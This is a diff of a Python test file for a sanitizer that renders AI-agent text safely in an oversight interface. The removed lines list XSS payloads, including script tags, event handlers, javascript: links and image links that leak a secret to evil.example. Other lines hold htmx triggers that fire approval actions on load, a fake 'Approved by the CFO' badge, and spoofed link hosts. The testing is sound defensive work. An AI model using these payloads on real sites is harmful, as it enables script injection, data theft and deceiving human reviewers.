@@ -7,45 +7,70 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from apps.core.agent_text import MAX_BYTES, inert
+from apps.core.formats import pretty_json
+from apps.core.revealing import reveal
+from tests.oversight.hostile_corpus import CORPUS
 
-PLAIN = "p|br|strong|em|s|code|pre|blockquote|ul|ol|li|h[3-6]|hr|table|thead|tbody|tr|th|td"
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg/onload=alert(1)>",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](&#106;avascript:alert(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD4=)",
-    "![x](https://evil.example/?d=secret)",
-    "[![x](https://evil.example/a.png)](https://evil.example)",
-    "<a href='https://evil.example' hx-get='/halts/' hx-trigger='load'>x</a>",
-    "<div hx-post='/inbox/1/decision/' hx-trigger='load'></div>",
-    "<https://evil.example>",
-    "<form action='https://evil.example'><input name=a></form>",
-    "<iframe src='//evil.example'></iframe>",
-    "<style>body{display:none}</style>",
-    "<base href='https://evil.example'>",
-    "[a]: https://evil.example\n\n[a]",
-    "[x](//evil.example)",
-    "[x](/inbox/)",
-    "[x](https://evil.example\\@good.example)",
-    "[x](https://[)",
-    "`<b>`\n\n    <script>\n",
-    "\u202e<script>\u202c",
-    "[\u202ex](https://evil.example)",
-    "<span class='badge ok'>Approved by the CFO</span>",
-    "| a | b |\n|--|--|\n| <img src=//evil.example> | [x](https://evil.example) |",
-]
+TAGS = "p|br|strong|em|s|code|pre|blockquote|ul|ol|li|h[3-6]|hr|table|thead|tbody|tr|th|td"
+OURS = re.compile(rf"</?(?:{TAGS}) ?/?>|<span class=\"(?:token|key|str|lit)\"(?: title=\"[^\"<>]*\")?>|</span>")
+HIDDEN = re.compile(
+    "[\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\x00-\x08\x0b-\x1f\x7f-\x9f\ue000\U000e0000-\U000e01ef]"
+)
 
 
-@pytest.mark.parametrize("text", HOSTILE)
-def test_hostile_text_stays_text(text: str) -> None:
-    html = str(inert(text))
-    tags = re.findall(r"<[^>]*>", html)
-    for tag in tags:
-        assert re.fullmatch(rf"</?({PLAIN}) ?/?>|<span class=\"token\" title=\"[^\"<>]*\">|</span>", tag), tag
-    assert not re.search(r"[\u202a-\u202e\u2066-\u2069\u200b-\u200f]", html)
+def assert_inert(html: str) -> None:
+    """No tag but the plane's own, no character that hides."""
+    for tag in re.findall(r"<[^>]*>", html):
+        assert OURS.fullmatch(tag), tag
+    assert not HIDDEN.search(html)
+
+
+@pytest.mark.parametrize("text", CORPUS.values(), ids=CORPUS)
+def test_hostile_text_stays_text_wherever_it_stands(text: str) -> None:
+    started = time.process_time()
+    assert_inert(inert(text))
+    assert_inert(reveal(text))
+    assert_inert(pretty_json({text[:1_000]: text}))
+    assert time.process_time() - started < 3
+    assert len(inert(text)) < 400_000
+
+
+def test_the_corpus_is_as_large_as_it_should_be() -> None:
+    assert len(CORPUS) >= 60
+    assert len(set(CORPUS.values())) == len(CORPUS)
+
+
+@pytest.mark.parametrize(
+    "unit", ["[", "[a](", "![", "*a**", "`", "> ", "- x\n", "|a", "# h\n", "\u200ba", "x\u0301", "a@b.c ", "//"]
+)
+def test_repetition_costs_no_second(unit: str) -> None:
+    started = time.process_time()
+    assert_inert(inert(unit * 200_000))
+    assert_inert(reveal((unit * 200_000)[:200_000]))
+    assert time.process_time() - started < 4  # brackets alone took eight seconds before they were counted
+
+
+def test_only_one_link_text_is_asked_for_by_what_it_shows() -> None:
+    assert inert("[https://bank.example/](https://evil.example)") == (
+        "<p>https://<strong>bank.example</strong>/ (evil.example)</p>\n"
+    )
+
+
+@override_settings(AGENT_LINK_HOSTS=("wiki.example.com",))
+@pytest.mark.parametrize(
+    "href",
+    [
+        "http://wiki.example.com/",
+        "https://wiki.example.com@evil.example/",
+        "https://wiki.example.com.evil.example/",
+        "https://evil.example/wiki.example.com",
+        "https://evil.example\\\\@wiki.example.com/",
+        "javascript://wiki.example.com/%0aalert(1)",
+    ],
+)
+def test_nothing_but_the_listed_host_becomes_a_link(href: str) -> None:
+    html = inert(f"[x]({href})")
+    assert re.findall(r'href="([^"]*)"', html) in ([], ["https://evil.example%5C@wiki.example.com/"])
 
 
 def test_a_foreign_link_is_its_label_and_its_host() -> None:
